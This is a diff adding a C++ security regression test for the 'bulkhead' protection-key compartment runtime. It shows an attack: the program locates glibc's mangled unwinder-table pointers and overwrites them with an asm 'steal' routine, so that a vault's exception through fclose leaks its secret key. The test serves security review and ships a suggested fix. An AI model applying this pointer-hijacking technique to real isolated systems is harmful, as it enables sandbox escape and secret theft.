@@ -1,0 +1,175 @@
+// Review 30b, attacker model A (key-0 loads and stores, no system call).
+// runtime/unwind-copy.c gives libgcc_s, with a compartment's rights, a
+// copy of each CIE whose personality is the routine's address recorded at
+// start-up, so no DW.ref.* word is followed. But what it records for
+// libc's frames is no routine of libgcc_s's: glibc 2.36 compiles
+// _IO_fclose with -fexceptions (a cleanup releases the stream's lock), and
+// its CIE ("zPLR", libc's only one with a personality) names libc's own
+// __gcc_personality_v0 (glibc's unwind-resume.c), a forwarder: it calls
+// __libc_unwind_link_get and jumps to the personality word of glibc's
+// table of libgcc_s's functions (misc/unwind-link.c: a static struct in
+// libc's .bss, each word mangled with the pointer guard at %fs:0x30; both
+// key-0 memory), with the rights of whoever unwinds. The landing pad's
+// _Unwind_Resume is libc's too, through the same table. The copy
+// faithfully records the forwarder.
+// A vault whose throw passes fclose (a fopencookie stream whose close
+// function, the vault's, throws) thus calls a table word with its rights.
+// Here the program lets glibc fill the table (glibc's own backtrace,
+// through dlsym RTLD_NEXT, as attacks-rev25-backtrace-link.c does), finds
+// the word by its contents (the mangled address of libgcc_s's
+// __gcc_personality_v0, or with -DRESUME of its _Unwind_Resume, in libc's
+// key-0 writable pages: a fixed offset in libc's binary) and stores there
+// the mangled address of steal, a function of the program's whose address
+// is taken in asm (no gate wraps it; it stands for any code that copies
+// through key-0 pointers). The vault's own throw then runs it with the
+// vault's rights (the search phase for the personality word, the cleanup
+// phase for _Unwind_Resume): it copies the vault's key into the program's
+// buffer and goes on to libgcc_s's function, so the throw is still caught
+// (by the program: clang takes fclose for a libc function that cannot
+// throw and drops a try around it in the vault). ATTACK SUCCEEDED for
+// both words, seen in the guest (review 30b, with the filter). The control
+// stores nothing, steals nothing. Not cancellation
+// (attacks-rev25-cancel-cleanup.c): an ordinary throw.
+// Suggested fix: with a compartment's rights, answer no FDE for a frame
+// whose recorded personality is not a routine of libstdc++'s, libgcc_s's
+// or an instrumented object's (here libc's forwarder): a throw through
+// fclose then ends the program, and its landing pad (libc's
+// _Unwind_Resume) is never reached. Recording libgcc_s's routine in the
+// forwarder's place would still leave that _Unwind_Resume.
+// XFAIL: *
+// REQUIRES: pku
+// RUN: %bulkhead_clangxx -fpkey-compartments -O2 %s -ldl -o %t
+// RUN: %run %t control | FileCheck %s --check-prefix=CONTROL
+// RUN: %run %t | FileCheck %s
+// RUN: %bulkhead_clangxx -fpkey-compartments -O2 -DRESUME %s -ldl -o %t-resume
+// RUN: %run %t-resume | FileCheck %s
+// CONTROL: caught: 7
+// CONTROL-NEXT: nothing stolen
+// CHECK: libc's words for {{.*}}: 1
+// CHECK: caught: 7
+// CHECK-NOT: ATTACK SUCCEEDED
+#include <bulkhead.h>
+#include <dlfcn.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <string.h>
+
+BULKHEAD_DATA(vault) char vault_key[32] = "TOP-SECRET-VAULT-KEY";
+
+/* The vault's, so that its throw is the vault's. */
+static BULKHEAD_ENTRY(vault) int cookie_close(void *) { throw 7; }
+
+/* No catch here: clang takes fclose for a libc function that cannot throw
+ * and drops a try around it; the program catches (the search phase
+ * passes _IO_fclose's frame with the vault's rights all the same). */
+extern "C" BULKHEAD_ENTRY(vault) int vault_close(void) {
+  cookie_io_functions_t io = {nullptr, nullptr, nullptr, cookie_close};
+  FILE *f = fopencookie(nullptr, "w", io);
+  return f ? fclose(f) : -1; /* the throw passes libc's _IO_fclose frame */
+}
+
+static char stolen[32];
+static const char *volatile from = vault_key; /* key-0 words */
+static char *volatile to = stolen;
+extern "C" {
+void *volatile real;
+__attribute__((used)) void copy(void) {
+  for (int i = 0; i < 31; i++)
+    to[i] = from[i];
+}
+}
+/* copy, then on to libgcc_s's routine (five arguments in registers). */
+__asm__(".text\n"
+        ".globl steal\n"
+        ".type steal, @function\n"
+        "steal:\n"
+        "  pushq %rdi\n"
+        "  pushq %rsi\n"
+        "  pushq %rdx\n"
+        "  pushq %rcx\n"
+        "  pushq %r8\n"
+        "  call copy\n"
+        "  popq %r8\n"
+        "  popq %rcx\n"
+        "  popq %rdx\n"
+        "  popq %rsi\n"
+        "  popq %rdi\n"
+        "  jmpq *real(%rip)\n"
+        ".size steal, .-steal\n");
+
+/* glibc's PTR_MANGLE on x86-64: xor with the guard, rotate left 17. */
+static uintptr_t mangle(uintptr_t p) {
+  uintptr_t guard;
+  __asm__("mov %%fs:0x30, %0" : "=r"(guard)); /* a key-0 load */
+  p ^= guard;
+  return p << 17 | p >> 47;
+}
+
+/* Replaces every key-0 writable word holding OLD by NEW; how many. */
+static int replace(uintptr_t old, uintptr_t now) {
+  FILE *f = fopen("/proc/self/smaps", "r");
+  char line[512];
+  uintptr_t lo = 0, hi = 0;
+  int rw = 0, n = 0, key;
+  while (f && fgets(line, sizeof line, f)) {
+    uintptr_t l, h;
+    char perms[8];
+    if (sscanf(line, "%lx-%lx %4s", &l, &h, perms) == 3) {
+      lo = l, hi = h, rw = perms[0] == 'r' && perms[1] == 'w';
+      rw = rw && !strstr(line, "[stack]"); /* a dead copy of glibc's */
+      continue;
+    }
+    if (sscanf(line, "ProtectionKey: %d", &key) != 1 || !rw || key)
+      continue;
+    for (uintptr_t *w = (uintptr_t *)lo; w + 1 <= (uintptr_t *)hi; w++)
+      if (*w == old) {
+        *w = now; /* the one store that matters */
+        n++;
+      }
+  }
+  if (f)
+    fclose(f);
+  return n;
+}
+
+int main(int argc, char **argv) {
+  (void)argv;
+  void *first[4];
+  /* glibc's own backtrace (the program's name is the runtime's): it loads
+   * libgcc_s and fills glibc's table now. */
+  int (*glibc_backtrace)(void **, int) =
+      (int (*)(void **, int))dlsym(RTLD_NEXT, "backtrace");
+  if (!glibc_backtrace || glibc_backtrace(first, 4) < 1) {
+    puts("no glibc backtrace");
+    return 1;
+  }
+  if (argc < 2) {
+    void *gcc = dlopen("libgcc_s.so.1", RTLD_NOW | RTLD_NOLOAD);
+#ifdef RESUME
+    const char *name = "_Unwind_Resume";
+#else
+    const char *name = "__gcc_personality_v0";
+#endif
+    real = gcc ? dlsym(gcc, name) : nullptr;
+    if (!real) {
+      puts("no libgcc_s");
+      return 1;
+    }
+    uintptr_t p;
+    __asm__("leaq steal(%%rip), %0" : "=r"(p));
+    printf("libc's words for %s: %d\n", name,
+           replace(mangle((uintptr_t)real), mangle(p)));
+  }
+  try {
+    vault_close();
+  } catch (int i) {
+    printf("caught: %d\n", i);
+  }
+  if (strstr(stolen, "TOP-SECRET")) {
+    printf("ATTACK SUCCEEDED: the vault's key in the program's memory: %s\n",
+           stolen);
+    return 0;
+  }
+  puts("nothing stolen");
+  return 0;
+}
